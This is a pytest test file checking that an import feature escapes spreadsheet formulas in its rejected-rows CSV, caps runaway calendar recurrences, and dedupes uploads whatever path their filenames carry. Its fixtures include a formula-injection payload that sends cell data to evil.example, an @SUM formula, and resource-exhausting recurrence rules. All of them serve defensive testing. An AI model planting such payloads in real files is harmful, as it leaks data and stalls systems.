"""What an import will not do, whatever the file asks: expand a calendar without bound, drop the
rows of a spreadsheet that understates its size, write a formula into the rejected rows' CSV,
or tell an uploaded file from the same file on disk."""

import csv
import re
import signal
import zipfile
from contextlib import contextmanager
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook

from domain.commands import CreateTeam, JoinMember
from importers.calendar import PER_EVENT, PER_FILE, STEPS
from importers.records import Upload
from importers.run import run_import
from importers.sources import source_for
from importers.tabular import Mapping

FIXTURES = Path(__file__).parents[1] / "fixtures" / "import"
PERIOD = (date(2026, 1, 1), date(2026, 6, 1))  # before the tests' clock: no entry is in the future


@pytest.fixture
def team(app):
    app.create_team(CreateTeam.parse(name="North Team"))
    team_id = app.team_named("North Team").id
    for name, email in [("Sam Patel", "sam.patel@example.org"), ("Jo Okoro", "jo.okoro@example.org")]:
        app.join_member(JoinMember.parse(team_id=team_id, name=name, email=email, joined_on=date(2025, 1, 5)))
    return team_id


@pytest.mark.parametrize("name", ["supervision_log.csv", "../../supervision_log.csv", "/tmp/supervision_log.csv",
                                  "C:\\Users\\ann\\supervision_log.csv"])
def test_an_upload_and_the_same_file_on_disk_are_one_source(app, team, name):
    """Each entry's id comes from what its row says, never from the file's name, so an upload
    of a file already imported from disk, whatever folders its name carries, adds nothing."""
    app.join_member(JoinMember.parse(team_id=team, name="Zoë Lambert", joined_on=date(2025, 1, 5)))
    app.join_member(JoinMember.parse(team_id=team, name="José Núñez", joined_on=date(2025, 1, 5)))
    on_disk = run_import(app, team, source_for(FIXTURES / "supervision_log.csv", Mapping()), "ann")
    assert on_disk.added == 6
    data = (FIXTURES / "supervision_log.csv").read_bytes()
    uploaded = run_import(app, team, source_for(Upload(name, data), Mapping()), "ann")
    assert (uploaded.added, uploaded.already_imported) == (0, 6)


def understated_xlsx(path: Path, rows: int) -> Path:
    """An .xlsx whose <dimension> tag claims one cell, as some programs that write them do."""
    book = Workbook()
    book.active.append(["Date", "Activity", "People"])
    for day in range(1, rows + 1):
        book.active.append([datetime(2026, 3, day, 10), "check in", "Sam Patel"])
    book.save(path)
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:A1"', sheet).encode()
    assert '<dimension ref="A1:A1"' in parts["xl/worksheets/sheet1.xml"].decode()
    with zipfile.ZipFile(path, "w") as rewritten:
        for name, data in parts.items():
            rewritten.writestr(name, data)
    return path


def test_an_xlsx_that_understates_its_size_imports_every_row(app, team, tmp_path):
    path = understated_xlsx(tmp_path / "log.xlsx", rows=20)
    report = run_import(app, team, source_for(path, Mapping()), "ann")
    assert (report.added, report.rejected) == (20, [])
    uploaded = run_import(app, team, source_for(Upload("log.xlsx", path.read_bytes()), Mapping()), "ann")
    assert (uploaded.added, uploaded.already_imported) == (0, 20)


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open the record")'


def test_the_rejected_rows_csv_holds_no_formula(app, team, tmp_path):
    path = tmp_path / "log.csv"
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows([["date", "activity", "people", "note"],
                                      ["2026-03-02", "check in", "Sam Patel", "fine"],
                                      ["2026-03-03", "check in", "Sam Patel", HYPERLINK + " " * 500 + "."],
                                      ["2026-03-04", "check in", "@SUM(A1:A9)", ""]])
    report = run_import(app, team, source_for(path, Mapping()), "ann", skip_invalid=True,
                        rejected_csv=path.with_suffix(".rejected.csv"))
    assert (report.added, len(report.rejected)) == (1, 2)
    with path.with_suffix(".rejected.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["line"], row["column"]) for row in rows] == [("3", "note"), ("4", "people")]
    assert rows[0]["value"].startswith("'" + HYPERLINK) and rows[1]["value"] == "'@SUM(A1:A9)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


@contextmanager
def within(seconds: int):
    """Fails the test, instead of hanging it, when the import runs away."""
    def stop(*_):
        raise TimeoutError(f"still working after {seconds} s")
    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def calendar(*events: tuple[str, str, str]) -> bytes:
    """An .ics of (uid, start, rule) events, every one a debrief with Sam."""
    body = "".join(f"BEGIN:VEVENT\r\nUID:{uid}\r\nSUMMARY:Debrief\r\nDTSTART:{start}\r\n"
                   f"ATTENDEE:mailto:sam.patel@example.org\r\n{f'RRULE:{rule}' if rule else ''}\r\nEND:VEVENT\r\n"
                   for uid, start, rule in events)
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n{body}END:VCALENDAR\r\n".encode()


def refusal(app, team_id, data: bytes) -> str:
    before = app.recorder.max_notification_id()
    with within(60), pytest.raises(ValueError) as refused:
        run_import(app, team_id, source_for(Upload("team.ics", data), Mapping(), *PERIOD), "ann")
    assert app.recorder.max_notification_id() == before
    return str(refused.value)


def test_an_event_that_repeats_every_minute_is_refused_at_once_naming_it(app, team):
    """214 bytes that asked for 260,000 meetings took two minutes and 1.3 GB."""
    data = calendar(("minutely@example.org", "20260520T090000Z", "FREQ=MINUTELY"))
    assert refusal(app, team, data) == (
        f"file 'team.ics': event 'Debrief' (UID 'minutely@example.org') takes the calendar past "
        f"{PER_EVENT:,} times between 2026-01-01 and 2026-06-01; import a shorter period")


@pytest.mark.parametrize("start, rule", [
    ("20260101T090000Z", "FREQ=SECONDLY"),  # 13 million in the period
    ("20000101T090000Z", "FREQ=HOURLY;BYDAY=MO"),  # its library steps through every hour since 2000 to reach 2026
    ("20260101T090000Z", "FREQ=YEARLY;BYDAY=MO,TU,WE,TH,FR,SA,SU;BYHOUR=" + ",".join(map(str, range(24)))
     + ";BYMINUTE=" + ",".join(map(str, range(60)))),  # every minute of the year, in one period
    ("20260101T090000Z", "FREQ=DAILY;INTERVAL=0"),  # never moves on: this one hung for good
])
def test_a_rule_too_costly_to_expand_is_refused_before_it_is_expanded(app, team, start, rule):
    message = refusal(app, team, calendar(("costly@example.org", start, rule)))
    assert message == (f"file 'team.ics': event 'Debrief' (UID 'costly@example.org') repeats too often, or from "
                       f"too long ago: working out the calendar's recurring events up to 2026-06-01 would take "
                       f"more than {STEPS:,} repetitions")


def test_a_file_with_too_many_meetings_in_all_is_refused(app, team):
    daily = [(f"daily-{n}@example.org", "20260101T090000Z", "FREQ=DAILY") for n in range(PER_FILE // 150 + 1)]
    message = refusal(app, team, calendar(*daily))
    assert re.fullmatch(rf"file 'team.ics': event 'Debrief' \(UID 'daily-\d+@example.org'\) takes the calendar "
                        rf"past {PER_FILE:,} meetings in all between 2026-01-01 and 2026-06-01; import a shorter "
                        rf"period", message), message


def test_meetings_within_the_caps_are_all_imported(app, team):
    """A weekday meeting kept for 26 years and a daily one: neither is near a cap."""
    data = calendar(("weekdays@example.org", "20000103T090000Z", "FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR"),
                    ("daily@example.org", "20260101T140000Z", "FREQ=DAILY;COUNT=100"),
                    ("once@example.org", "20260305T100000Z", ""))
    with within(60):
        report = run_import(app, team, source_for(Upload("team.ics", data), Mapping(), *PERIOD), "ann")
    weekdays = sum((PERIOD[0] + timedelta(days=n)).weekday() < 5 for n in range((PERIOD[1] - PERIOD[0]).days + 1))
    assert (report.added, report.rejected) == (weekdays + 100 + 1, [])
